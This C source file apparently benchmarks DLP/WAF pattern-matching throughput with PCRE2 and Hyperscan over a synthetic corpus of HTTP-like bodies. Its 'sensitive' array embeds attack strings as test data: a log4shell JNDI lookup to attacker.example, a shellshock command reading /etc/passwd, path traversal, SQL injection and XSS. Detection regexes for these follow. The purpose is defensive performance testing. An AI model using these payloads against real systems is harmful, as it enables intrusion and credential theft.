/*
 * sensor_bench.c: DLP/WAF matching throughput on one core.
 *
 * usage: sensor_bench [-r RULES_DIR] [MB [SECONDS [ENGINE]]]
 *
 * Generates MB (default 64) megabytes of HTTP-like bodies, 512 bytes to
 * 16 KB each: JSON API payloads (users, orders, events), HTML pages,
 * form posts and log batches, with a card number, an SSN, a key or an
 * attack string in about one body in a hundred.  Then matches every body
 * as the body context with
 *  (a) a default-like set: cards with Luhn, SSNs, AWS keys, private key
 *      headers, cleartext passwords, SQL injection, XSS, log4shell,
 *      shellshock, path traversal;
 *  (b) with -r, the sensors nvd ships (RULES_DIR/dlp.rules and
 *      waf.rules: every rule of every sensor, each pattern in the body
 *      whatever context the file gives it);
 *  (c) 10, 100 and 1000 generated rules of eight shapes (literals of
 *      various lengths, top-level alternation, validators, negation);
 * each with three engines: PCRE2 alone on whole bodies (pcre2), Hyperscan
 * and PCRE2 on whole bodies (sensor_match: hs), and Hyperscan streams fed
 * each body in segments of SEGMENT bytes with a pause after each
 * (sensor_stream: stream, what nvd does with bodies and raw streams),
 * stopping a case after SECONDS
 * (default 5) of matching; ENGINE (pcre2, hs or stream) runs only its
 * cases.  Prints MB/s, hits, PCRE2 runs per MB, the Hyperscan databases'
 * size and the memory of one stream.
 */
#include "config.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "sensor/rules_file.h"
#include "sensor/sensor.h"
#include "../tests/unit/fixture_sensor.h"

#define BODY_MIN	512
#define BODY_MAX	(16 << 10)
#define SEGMENT		1448	/* a TCP segment's payload on a 1500-byte MTU */

enum engine { ENGINE_PCRE2, ENGINE_HS, ENGINE_STREAM };
static const char *const engine_names[] = { "pcre2", "hs", "stream" };

struct corpus {
	uint8_t *buf;
	size_t len;
	size_t *off;		/* body i is buf[off[i] .. off[i + 1]) */
	size_t n;
};

static uint64_t rng = 0x2545f4914f6cdd1dull;

static uint32_t
rnd(uint32_t n)
{
	return fxsensor_rnd(&rng, n);
}

#define PICK(a)	((a)[rnd(sizeof(a) / sizeof((a)[0]))])

static const char *const first[] = {
	"Alice", "Bob", "Carol", "Dmitri", "Eve", "Fatima", "Grace", "Hiroshi", "Ines",
	"Jamal", "Katarzyna", "Liam", "Mei", "Noah", "Olga", "Pedro", "Quinn", "Rosa",
};
static const char *const last[] = {
	"Smith", "Johnson", "Garcia", "Nakamura", "Okafor", "Schmidt", "Rossi", "Dubois",
	"Kowalski", "Andersson", "Haddad", "Silva", "Chen", "O'Brien", "Novak",
};
static const char *const street[] = {
	"Main St", "Oak Avenue", "Rue de la Paix", "Hauptstrasse", "Elm Court",
	"Sunset Blvd", "High Street", "Via Roma", "Maple Drive",
};
static const char *const words[] = {
	"the", "order", "was", "shipped", "to", "customer", "and", "payment", "received",
	"please", "review", "your", "account", "settings", "update", "available", "new",
	"delivery", "window", "between", "monday", "friday", "invoice", "attached", "for",
	"select", "from", "table", "union", "script", "on", "key", "token", "password",
	"admin", "debug", "error", "load", "value", "null", "true", "false", "id", "user",
};
/* One of these in about one body in a hundred. */
static const char *const sensitive[] = {
	"4111 1111 1111 1111", "5555-5555-5555-4444", "378282246310005", "123-45-6789",
	"AKIAIOSFODNN7EXAMPLE", "-----BEGIN RSA PRIVATE KEY-----",
	"\"password\": \"correct horse battery\"",
	"' UNION ALL SELECT username, password FROM users--",
	"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
	"${jndi:ldap://attacker.example/a}", "() { :; }; /bin/cat /etc/passwd",
	"../../../../etc/passwd", "key_0008 = 9f8e7d6c5b4a", "tok-9-abcdef",
	"select name from tbl2 where 1", "id=3&", "user5@example.com x-tenant: 7",
	"order-6 confirmed", "234-56-7890 ref7",
};

struct out {
	char *p;
	size_t len, cap;
};

static void put(struct out *o, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void
put(struct out *o, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(o->p + o->len, o->cap - o->len, fmt, ap);
	va_end(ap);
	if (n > 0)
		o->len += (size_t)n < o->cap - o->len ? (size_t)n : o->cap - o->len - 1;
}

static void
sentence(struct out *o, int words_n)
{
	for (int i = 0; i < words_n; i++)
		put(o, "%s%s", i ? " " : "", PICK(words));
}

static void
json_user(struct out *o)
{
	put(o, "{\"id\":%u,\"uuid\":\"%08x-%04x-4%03x-a%03x-%06x%06x\",\"name\":\"%s %s\","
	    "\"email\":\"%s.%s@example.com\",\"phone\":\"+1-555-%03u-%04u\","
	    "\"address\":{\"street\":\"%u %s\",\"zip\":\"%05u\"},\"balance\":%u.%02u,"
	    "\"created\":\"2024-%02u-%02uT%02u:%02u:%02uZ\",\"active\":%s,\"note\":\"",
	    rnd(1000000), rnd(1u << 31), rnd(65536), rnd(4096), rnd(4096), rnd(1 << 24),
	    rnd(1 << 24), PICK(first), PICK(last), PICK(first), PICK(last), rnd(1000),
	    rnd(10000), rnd(9999) + 1, PICK(street), rnd(100000), rnd(100000), rnd(100),
	    rnd(12) + 1, rnd(28) + 1, rnd(24), rnd(60), rnd(60), rnd(2) ? "true" : "false");
	sentence(o, 5 + (int)rnd(20));
	put(o, "\"}");
}

static void
body_json(struct out *o)
{
	put(o, "{\"page\":%u,\"per_page\":50,\"users\":[", rnd(100));
	for (int i = 0; o->len + 600 < o->cap; i++) {
		if (i)
			put(o, ",");
		json_user(o);
	}
	put(o, "]}");
}

static void
body_html(struct out *o)
{
	put(o, "<!DOCTYPE html><html><head><title>%s</title>"
	    "<link rel=\"stylesheet\" href=\"/static/app.%06x.css\"></head><body>", PICK(words),
	    rnd(1 << 24));
	while (o->len + 300 < o->cap) {
		put(o, "<div class=\"row\"><a href=\"/item/%u?ref=list&amp;page=%u\">", rnd(100000),
		    rnd(50));
		sentence(o, 3 + (int)rnd(8));
		put(o, "</a><p>");
		sentence(o, 10 + (int)rnd(30));
		put(o, "</p></div>\n");
	}
	put(o, "</body></html>");
}

static void
body_form(struct out *o)
{
	while (o->len + 120 < o->cap)
		put(o, "%s%s=%s+%s&qty%u=%u&sku=%c%c-%05u", o->len ? "&" : "", PICK(words),
		    PICK(first), PICK(last), rnd(10), rnd(20), 'A' + rnd(26), 'A' + rnd(26),
		    rnd(100000));
}

static void
body_log(struct out *o)
{
	while (o->len + 200 < o->cap) {
		put(o, "10.%u.%u.%u - - [12/Mar/2024:%02u:%02u:%02u +0000] \"GET /api/v2/%s/%u "
		    "HTTP/1.1\" %u %u \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\" ",
		    rnd(256), rnd(256), rnd(256), rnd(24), rnd(60), rnd(60), PICK(words),
		    rnd(100000), rnd(5) ? 200 : 404, rnd(50000));
		sentence(o, 2 + (int)rnd(5));
		put(o, "\n");
	}
}

static size_t
body_make(uint8_t *dst, size_t cap)
{
	struct out o = { .p = (char *)dst, .len = 0, .cap = cap };

	switch (rnd(4)) {
	case 0: body_json(&o); break;
	case 1: body_html(&o); break;
	case 2: body_form(&o); break;
	default: body_log(&o); break;
	}
	if (rnd(100) == 0 && o.len > 100) {
		const char *s = PICK(sensitive);
		size_t n = strlen(s), at = rnd((uint32_t)(o.len - n));

		if (n < o.len)
			memcpy(dst + at, s, n);
	}
	return o.len;
}

static int
corpus_make(struct corpus *c, size_t bytes)
{
	size_t cap = bytes / BODY_MIN + 2;

	c->buf = malloc(bytes + BODY_MAX + 1);
	c->off = malloc(cap * sizeof(size_t));
	if (c->buf == NULL || c->off == NULL)
		return -1;
	c->len = 0;
	c->n = 0;
	while (c->len < bytes && c->n + 1 < cap) {
		size_t want = BODY_MIN + rnd(BODY_MAX - BODY_MIN);

		c->off[c->n++] = c->len;
		c->len += body_make(c->buf + c->len, want + 1);
	}
	c->off[c->n] = c->len;
	return 0;
}

/* --- rule sets ----------------------------------------------------------- */

static void
rule(struct sensor_rule_spec *r, const char *name, enum sensor_validator v, const char *re)
{
	memset(r, 0, sizeof(*r));
	snprintf(r->name, sizeof(r->name), "%s", name);
	r->validator = v;
	snprintf(r->pat[0].re, sizeof(r->pat[0].re), "%s", re);
	r->pat[0].ctx = SCTX_BODY;
	r->npat = 1;
}

static void
pattern(struct sensor_rule_spec *r, int negate, const char *re)
{
	snprintf(r->pat[r->npat].re, sizeof(r->pat[0].re), "%s", re);
	r->pat[r->npat].ctx = SCTX_BODY;
	r->pat[r->npat++].negate = negate;
}

/* Every pattern in the body, as the benchmark gives only bodies. */
static int
default_rules(struct sensor_rule_spec *r)
{
	struct sensor_rule_spec *p = r;

	rule(p++, "credit-card", SVAL_LUHN, "\\b\\d(?:[ -]?\\d){12,18}\\b");
	rule(p++, "us-ssn", SVAL_SSN, "\\b\\d{3}-\\d{2}-\\d{4}\\b");
	rule(p++, "aws-access-key", SVAL_NONE, "\\bAKIA[0-9A-Z]{16}\\b");
	rule(p++, "private-key", SVAL_NONE,
	    "-----BEGIN (?:RSA |EC |DSA |OPENSSH )?PRIVATE KEY-----");
	rule(p, "cleartext-password", SVAL_NONE, "(?i)\"password\"\\s*:\\s*\"[^\"]{4,}\"");
	pattern(p++, 1, "\"password\"\\s*:\\s*\"\\$2[aby]\\$");
	rule(p++, "sqli-union", SVAL_NONE, "(?i)\\bunion\\b[\\s/*+]+(?:all[\\s/*+]+)?select\\b");
	rule(p++, "sqli-tautology", SVAL_NONE,
	    "(?i)(?:'|%27)\\s*or\\s+['\"]?\\d+['\"]?\\s*=\\s*['\"]?\\d");
	rule(p++, "xss-script", SVAL_NONE, "(?i)<script[\\s>/]");
	rule(p++, "xss-handler", SVAL_NONE, "(?i)\\bon(?:error|load|mouseover)\\s*=");
	rule(p++, "log4shell", SVAL_NONE, "(?i)\\$\\{(?:jndi|\\$\\{lower:j\\}ndi):");
	rule(p++, "shellshock", SVAL_NONE, "\\(\\)\\s*\\{\\s*:?;?\\s*\\};");
	rule(p++, "path-traversal", SVAL_NONE, "(?:\\.\\.[/\\\\]){2,}");
	return (int)(p - r);
}

/* The rules of dir's dlp.rules and waf.rules, every pattern in the body,
 * into r (at most max); their number, or -1. */
static int
shipped_rules(const char *dir, struct sensor_rule_spec *r, int max)
{
	static const char *const files[] = { "dlp.rules", "waf.rules" };
	int n = 0;

	for (size_t f = 0; f < sizeof(files) / sizeof(files[0]); f++) {
		struct rules_errors errs = { 0 };
		struct rules_file rf;
		char path[4096];

		snprintf(path, sizeof(path), "%s/%s", dir, files[f]);
		if (rules_read(path, &rf, &errs) > 0) {
			fprintf(stderr, "sensor_bench: %s\n", errs.msg[0]);
			return -1;
		}
		for (int i = 0; i < rf.nsensors; i++)
			for (int k = 0; k < rf.sensors[i].nrules && n < max; k++) {
				r[n] = rf.sensors[i].rules[k];
				for (int j = 0; j < r[n].npat; j++)
					r[n].pat[j].ctx = SCTX_BODY;
				n++;
			}
		rules_free(&rf);
	}
	return n;
}

/* The unit test's eight shapes (fixture_sensor.h), all in the body. */
static void
generated_rule(struct sensor_rule_spec *r, int i)
{
	struct fxsensor_gen g;

	fxsensor_gen(&g, i);
	rule(r, g.name, g.validator, g.re);
	if (g.second != NULL)
		pattern(r, g.second_negate, g.second);
}

/* --- measuring ----------------------------------------------------------- */

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* One body through a stream in segments; the rules that fired, or -1. */
static int
stream_body(struct sensor_stream *st, struct sensor_scratch *s, const uint8_t *b, size_t n)
{
	const uint8_t *text[SCTX_COUNT] = { NULL };
	size_t len[SCTX_COUNT] = { 0 };
	int fired = 0, rc, failed = 0;

	if ((rc = sensor_stream_begin(st, s, UINT64_MAX, text, len, NULL, NULL)) < 0)
		failed = 1;
	for (size_t at = 0; at < n; at += SEGMENT) {
		rc = sensor_stream_feed(st, s, b + at, n - at < SEGMENT ? n - at : SEGMENT, NULL,
		    NULL);
		if (rc < 0)
			failed = 1;
		else
			fired += rc;
		/* As nvd does at each packet's end. */
		if ((rc = sensor_stream_pause(st, s, NULL, NULL)) < 0)
			failed = 1;
		else
			fired += rc;
	}
	if ((rc = sensor_stream_end(st, s, NULL, NULL)) < 0)
		failed = 1;
	else
		fired += rc;
	return failed ? -1 : fired;
}

static void
run_case(const char *label, struct sensor_rule_spec *rules, int nrules, enum engine eng,
    const struct corpus *c, double seconds)
{
	struct sensor_spec spec = { .name = "bench", .type = SENSOR_DLP, .rules = rules,
	    .nrules = nrules };
	struct sensor_set_info info;
	struct sensor_stats st;
	struct sensor_scratch *s = sensor_scratch_new();
	struct sensor_stream *stream = NULL;
	struct sensor_set *set;
	char err[256];
	size_t bytes = 0, i;
	long hits = 0, limited = 0;
	double t0, t;

	if ((set = sensor_set_build(&spec, 1, eng != ENGINE_PCRE2, err, sizeof(err))) == NULL ||
	    s == NULL || (eng == ENGINE_STREAM &&
	    (stream = sensor_stream_new(set, SCTX_BODY)) == NULL)) {
		fprintf(stderr, "sensor_bench: %s: %s\n", label, set == NULL ? err : "no memory");
		exit(1);
	}
	sensor_set_info(set, &info);
	t0 = now();
	for (i = 0; i < c->n; i++) {
		const uint8_t *text[SCTX_COUNT] = { NULL };
		size_t len[SCTX_COUNT] = { 0 };
		int rc;

		text[SCTX_BODY] = c->buf + c->off[i];
		len[SCTX_BODY] = c->off[i + 1] - c->off[i];
		if (eng == ENGINE_STREAM)
			rc = stream_body(stream, s, text[SCTX_BODY], len[SCTX_BODY]);
		else
			rc = sensor_match(set, s, UINT64_MAX, text, len, NULL, NULL);
		if (rc < 0)
			limited++;
		else
			hits += rc;
		bytes += len[SCTX_BODY];
		if ((i & 15) == 15 && now() - t0 > seconds)
			break;
	}
	t = now() - t0;
	sensor_scratch_stats(s, &st);
	printf("%-14s %5d  %-7s %9.1f %7.1f %7ld %6ld %10.1f %8zu %8zu\n", label, nrules,
	    engine_names[eng], (double)bytes / 1e6 / t, (double)bytes / 1e6, hits, limited,
	    (double)st.runs / ((double)bytes / 1e6), info.hs_bytes >> 10,
	    eng == ENGINE_STREAM ? sensor_stream_size(set, SCTX_BODY) : 0);
	sensor_stream_free(stream);
	sensor_set_free(set);
	sensor_scratch_free(s);
}

int
main(int argc, char **argv)
{
	static struct sensor_rule_spec def[16], shipped[256], gen[1000];
	static const int sizes[] = { 10, 100, 1000 };
	const char *rules_dir = NULL;
	double seconds;
	size_t mb;
	int only = -1;
	struct corpus c;
	int ndef, nshipped = 0;

	if (argc > 2 && strcmp(argv[1], "-r") == 0) {
		rules_dir = argv[2];
		argc -= 2;
		argv += 2;
	}
	seconds = argc > 2 ? atof(argv[2]) : 5.0;
	mb = argc > 1 ? strtoul(argv[1], NULL, 10) : 64;

	for (int e = 0; argc > 3 && e < 3; e++)
		if (strcmp(argv[3], engine_names[e]) == 0)
			only = e;
	if (mb == 0 || seconds <= 0 || (argc > 3 && only < 0)) {
		fprintf(stderr, "usage: sensor_bench [-r RULES_DIR] [MB [SECONDS [pcre2|hs|stream]]]\n");
		return 2;
	}
	if (rules_dir && (nshipped = shipped_rules(rules_dir, shipped, 256)) < 0)
		return 1;
	if (corpus_make(&c, mb << 20) < 0) {
		fprintf(stderr, "sensor_bench: no memory\n");
		return 1;
	}
	ndef = default_rules(def);
	for (int i = 0; i < 1000; i++)
		generated_rule(&gen[i], i);
	printf("%zu bodies, %.1f MB; one core; each case stops after %.0f s\n\n", c.n,
	    (double)c.len / 1e6, seconds);
	printf("%-14s %5s  %-7s %9s %7s %7s %6s %10s %8s %8s\n", "set", "rules", "engine",
	    "MB/s", "MB", "hits", "limit", "runs/MB", "hs KiB", "stream B");
	for (int e = 0; e < 3; e++)
		if (only < 0 || e == only)
			run_case("default", def, ndef, (enum engine)e, &c, seconds);
	for (int e = 0; nshipped > 0 && e < 3; e++)
		if (only < 0 || e == only)
			run_case("shipped", shipped, nshipped, (enum engine)e, &c, seconds);
	for (size_t k = 0; k < sizeof(sizes) / sizeof(sizes[0]); k++)
		for (int e = 0; e < 3; e++)
			if (only < 0 || e == only)
				run_case("generated", gen, sizes[k], (enum engine)e, &c, seconds);
	free(c.buf);
	free(c.off);
	return 0;
}
